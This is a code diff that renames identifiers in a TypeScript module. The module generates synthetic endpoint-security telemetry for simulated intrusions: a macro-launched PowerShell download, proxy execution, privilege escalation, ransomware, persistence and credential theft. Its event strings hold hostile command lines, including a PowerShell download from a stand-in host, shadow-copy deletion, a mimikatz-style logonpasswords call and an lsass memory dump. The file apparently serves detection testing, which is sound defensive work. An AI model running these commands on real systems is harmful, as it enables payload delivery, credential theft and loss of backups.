@@ -1,19 +1,25 @@
 /** Stories of programs: macros, proxies, persistence, theft, ransom. */
-import type { Scene, Story } from "./scene.ts";
+import type { ScenarioContext, Scenario } from "./scenario.ts";
 
 const secondMs = 1_000;
 const minuteMs = 60_000;
 
 /** An alert of the endpoint and its evidence: the device, the user, the file. */
-function alert(scene: Scene, ms: number, title: string, facts: string, fileName: string): void {
-  const bits = scene.random.bits();
-  const line = { subject: title, commandLine: facts, file: scene.file(fileName), bits };
-  scene.tell("AlertInfo", ms, { ...line, action: "Alert" });
+function addAlert(
+  context: ScenarioContext,
+  offsetMs: number,
+  title: string,
+  facts: string,
+  fileName: string,
+): void {
+  const bits = context.random.nextBits();
+  const fields = { subject: title, commandLine: facts, file: context.getFile(fileName), bits };
+  context.emit("AlertInfo", offsetMs, { ...fields, action: "Alert" });
   for (const entity of ["Machine", "User", "File"])
-    scene.tell("AlertEvidence", ms, { ...line, action: entity });
+    context.emit("AlertEvidence", offsetMs, { ...fields, action: entity });
 }
 
-const macro: Story = {
+const macro: Scenario = {
   name: "a macro starts PowerShell, which fetches a program",
   hours: 6,
   lengthMs: 10 * minuteMs,
@@ -24,25 +30,25 @@ const macro: Story = {
     "AlertInfo",
     "AlertEvidence",
   ],
-  tell: (scene) => {
-    const { file, tell } = scene;
+  emit: (context) => {
+    const { getFile, emit } = context;
     const [word, shell, payload] = [
-      file("winword.exe"),
-      file("powershell.exe"),
-      file("payload.exe"),
+      getFile("winword.exe"),
+      getFile("powershell.exe"),
+      getFile("payload.exe"),
     ];
     const command =
       "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA";
     const download = `powershell.exe -c "(New-Object Net.WebClient).DownloadFile('http://cdn.paste.example/a.png','C:\\Users\\Public\\payload.exe')"`;
-    const opened = String.raw`"WINWORD.EXE" /n "C:\Users\Public\Documents\invoice.docm"`;
-    tell("DeviceProcessEvents", 0, {
+    const openCommand = String.raw`"WINWORD.EXE" /n "C:\Users\Public\Documents\invoice.docm"`;
+    emit("DeviceProcessEvents", 0, {
       action: "ProcessCreated",
       file: shell,
       commandLine: command,
       by: word,
-      byCommandLine: opened,
+      byCommandLine: openCommand,
     });
-    tell("DeviceProcessEvents", 2 * secondMs, {
+    emit("DeviceProcessEvents", 2 * secondMs, {
       action: "ProcessCreated",
       file: shell,
       commandLine: download,
@@ -50,7 +56,7 @@ const macro: Story = {
       byCommandLine: command,
       byParent: word,
     });
-    tell("DeviceNetworkEvents", 3 * secondMs, {
+    emit("DeviceNetworkEvents", 3 * secondMs, {
       action: "ConnectionSuccess",
       by: shell,
       byCommandLine: download,
@@ -59,7 +65,7 @@ const macro: Story = {
       remoteIp: "192.0.2.66",
       remotePort: 80,
     });
-    tell("DeviceFileEvents", 5 * secondMs, {
+    emit("DeviceFileEvents", 5 * secondMs, {
       action: "FileCreated",
       file: payload,
       by: shell,
@@ -67,7 +73,7 @@ const macro: Story = {
       byParent: word,
       subject: "http://cdn.paste.example/a.png",
     });
-    tell("DeviceProcessEvents", 9 * secondMs, {
+    emit("DeviceProcessEvents", 9 * secondMs, {
       action: "ProcessCreated",
       file: payload,
       commandLine: String.raw`C:\Users\Public\payload.exe`,
@@ -75,8 +81,8 @@ const macro: Story = {
       byCommandLine: download,
       byParent: word,
     });
-    alert(
-      scene,
+    addAlert(
+      context,
       4 * minuteMs,
       "Suspicious PowerShell command line",
       'Execution|Medium|["T1059.001"]',
@@ -102,59 +108,59 @@ const proxies = [
   ],
 ] as const;
 
-const proxy: Story = {
+const proxy: Scenario = {
   name: "a signed program runs what it should not",
   hours: 8,
   lengthMs: minuteMs,
   tables: ["DeviceProcessEvents", "DeviceNetworkEvents", "DeviceImageLoadEvents"],
-  tell: ({ random, file, tell }) => {
+  emit: ({ random, getFile, emit }) => {
     const [name, commandLine] = random.pick(proxies);
-    const cmd = file("cmd.exe");
-    tell("DeviceProcessEvents", 0, {
+    const cmd = getFile("cmd.exe");
+    emit("DeviceProcessEvents", 0, {
       action: "ProcessCreated",
-      file: file(name),
+      file: getFile(name),
       commandLine,
       by: cmd,
       byCommandLine: "cmd.exe /c start",
     });
-    tell("DeviceNetworkEvents", secondMs, {
+    emit("DeviceNetworkEvents", secondMs, {
       action: "ConnectionSuccess",
-      by: file(name),
+      by: getFile(name),
       byCommandLine: commandLine,
       byParent: cmd,
       subject: "http://cdn.paste.example/",
       remoteIp: "192.0.2.66",
       remotePort: 80,
     });
-    tell("DeviceImageLoadEvents", 2 * secondMs, {
+    emit("DeviceImageLoadEvents", 2 * secondMs, {
       action: "ImageLoaded",
-      file: file("loader.dll"),
-      by: file(name),
+      file: getFile("loader.dll"),
+      by: getFile(name),
       byCommandLine: commandLine,
       byParent: cmd,
     });
   },
 };
 
-const administrator: Story = {
+const administrator: Scenario = {
   name: "somebody becomes a local administrator",
   hours: 12,
   lengthMs: minuteMs,
   tables: ["DeviceProcessEvents", "DeviceEvents"],
-  tell: ({ cast, random, file, tell }) => {
-    const added = random.pick(cast.users);
-    const command = `net.exe localgroup administrators ${added.domain}\\${added.name} /add`;
-    tell("DeviceProcessEvents", 0, {
+  emit: ({ organization, random, getFile, emit }) => {
+    const newAdministrator = random.pick(organization.users);
+    const command = `net.exe localgroup administrators ${newAdministrator.domain}\\${newAdministrator.name} /add`;
+    emit("DeviceProcessEvents", 0, {
       action: "ProcessCreated",
-      file: file("net.exe"),
+      file: getFile("net.exe"),
       commandLine: command,
-      by: file("cmd.exe"),
+      by: getFile("cmd.exe"),
     });
-    tell("DeviceEvents", secondMs, {
+    emit("DeviceEvents", secondMs, {
       action: "UserAccountAddedToLocalGroup",
-      by: file("net.exe"),
+      by: getFile("net.exe"),
       byCommandLine: command,
-      byParent: file("cmd.exe"),
+      byParent: getFile("cmd.exe"),
       set: {
         FileName: "",
         FolderPath: "",
@@ -162,9 +168,9 @@ const administrator: Story = {
         SHA256: "",
         MD5: "",
         FileSize: null,
-        AccountName: added.name,
-        AccountDomain: added.domain,
-        AccountSid: added.sid,
+        AccountName: newAdministrator.name,
+        AccountDomain: newAdministrator.domain,
+        AccountSid: newAdministrator.sid,
         AdditionalFields: JSON.stringify({
           GroupName: "Administrators",
           GroupDomainName: "Builtin",
@@ -175,25 +181,25 @@ const administrator: Story = {
   },
 };
 
-const ransom: Story = {
+const ransom: Scenario = {
   name: "files are renamed by the hundred and shadow copies deleted",
   hours: 3,
   lengthMs: 10 * minuteMs,
   tables: ["DeviceProcessEvents", "DeviceFileEvents", "AlertInfo", "AlertEvidence"],
-  tell: (scene) => {
-    const { cast, device, random, file, tell } = scene;
-    const by = file("svch0st.exe");
-    const bits = random.bits();
-    tell("DeviceProcessEvents", 0, {
+  emit: (context) => {
+    const { organization, device, random, getFile, emit } = context;
+    const by = getFile("svch0st.exe");
+    const bits = random.nextBits();
+    emit("DeviceProcessEvents", 0, {
       action: "ProcessCreated",
-      file: file("vssadmin.exe"),
+      file: getFile("vssadmin.exe"),
       commandLine: "vssadmin.exe delete shadows /all /quiet",
       by,
     });
     for (let index = 0; index < 120; index += 1) {
-      const document = random.pick(cast.documents);
+      const document = random.pick(organization.documents);
       // One process does it all, within one slot of five minutes and the next.
-      tell("DeviceFileEvents", secondMs + index * 200, {
+      emit("DeviceFileEvents", secondMs + index * 200, {
         action: "FileRenamed",
         file: document,
         by,
@@ -207,9 +213,15 @@ const ransom: Story = {
         },
       });
     }
-    alert(scene, minuteMs, "File backups were deleted", 'Impact|Medium|["T1490"]', "vssadmin.exe");
-    alert(
-      scene,
+    addAlert(
+      context,
+      minuteMs,
+      "File backups were deleted",
+      'Impact|Medium|["T1490"]',
+      "vssadmin.exe",
+    );
+    addAlert(
+      context,
       5 * minuteMs,
       "Ransomware behavior in the file system",
       'Impact|High|["T1486"]',
@@ -218,27 +230,27 @@ const ransom: Story = {
   },
 };
 
-const persistence: Story = {
+const persistence: Scenario = {
   name: "a task and a Run key keep a program alive",
   hours: 12,
   lengthMs: minuteMs,
   tables: ["DeviceProcessEvents", "DeviceRegistryEvents", "DeviceEvents"],
-  tell: ({ file, tell }) => {
+  emit: ({ getFile, emit }) => {
     const path = String.raw`C:\Users\Public\updater_x.exe`;
-    tell("DeviceProcessEvents", 0, {
+    emit("DeviceProcessEvents", 0, {
       action: "ProcessCreated",
-      file: file("schtasks.exe"),
+      file: getFile("schtasks.exe"),
       commandLine: `schtasks.exe /create /sc minute /mo 5 /tn Updater /tr ${path} /f`,
-      by: file("cmd.exe"),
+      by: getFile("cmd.exe"),
     });
-    tell("DeviceEvents", 400, {
+    emit("DeviceEvents", 400, {
       action: "ScheduledTaskCreated",
-      by: file("schtasks.exe"),
+      by: getFile("schtasks.exe"),
       set: { AdditionalFields: JSON.stringify({ TaskName: "\\Updater", TaskContent: path }) },
     });
-    tell("DeviceRegistryEvents", secondMs, {
+    emit("DeviceRegistryEvents", secondMs, {
       action: "RegistryValueSet",
-      by: file("updater_x.exe"),
+      by: getFile("updater_x.exe"),
       subject: String.raw`HKEY_CURRENT_USER\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`,
       commandLine: path,
       set: { RegistryValueName: "Updater" },
@@ -246,41 +258,41 @@ const persistence: Story = {
   },
 };
 
-const theft: Story = {
+const theft: Scenario = {
   name: "passwords are read out of memory",
   hours: 24,
   lengthMs: 5 * minuteMs,
   tables: ["DeviceProcessEvents", "DeviceEvents", "DeviceFileEvents", "AlertInfo", "AlertEvidence"],
-  tell: (scene) => {
-    const { file, tell } = scene;
-    const tool = file("mimidump.exe");
+  emit: (context) => {
+    const { getFile, emit } = context;
+    const tool = getFile("mimidump.exe");
     const command = String.raw`mimidump.exe privilege::debug sekurlsa::logonpasswords exit`;
-    tell("DeviceProcessEvents", 0, {
+    emit("DeviceProcessEvents", 0, {
       action: "ProcessCreated",
       file: tool,
       commandLine: command,
-      by: file("cmd.exe"),
+      by: getFile("cmd.exe"),
     });
-    tell("DeviceEvents", secondMs, {
+    emit("DeviceEvents", secondMs, {
       action: "OpenProcessApiCall",
-      file: file("lsass.exe"),
+      file: getFile("lsass.exe"),
       by: tool,
       byCommandLine: command,
     });
-    tell("DeviceProcessEvents", 3 * secondMs, {
+    emit("DeviceProcessEvents", 3 * secondMs, {
       action: "ProcessCreated",
-      file: file("rundll32.exe"),
+      file: getFile("rundll32.exe"),
       commandLine: String.raw`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 640 C:\Windows\Temp\lsass.dmp full`,
-      by: file("cmd.exe"),
+      by: getFile("cmd.exe"),
     });
-    tell("DeviceFileEvents", 4 * secondMs, {
+    emit("DeviceFileEvents", 4 * secondMs, {
       action: "FileCreated",
       file: tool,
-      by: file("rundll32.exe"),
+      by: getFile("rundll32.exe"),
       set: { FileName: "lsass.dmp", FolderPath: String.raw`C:\Windows\Temp\lsass.dmp` },
     });
-    alert(
-      scene,
+    addAlert(
+      context,
       2 * minuteMs,
       "Malicious credential theft tool execution detected",
       'CredentialAccess|High|["T1003.001"]',
@@ -290,7 +302,7 @@ const theft: Story = {
 };
 
 /** Stories on devices. */
-export const intrusions: readonly Story[] = [
+export const intrusions: readonly Scenario[] = [
   macro,
   proxy,
   administrator,
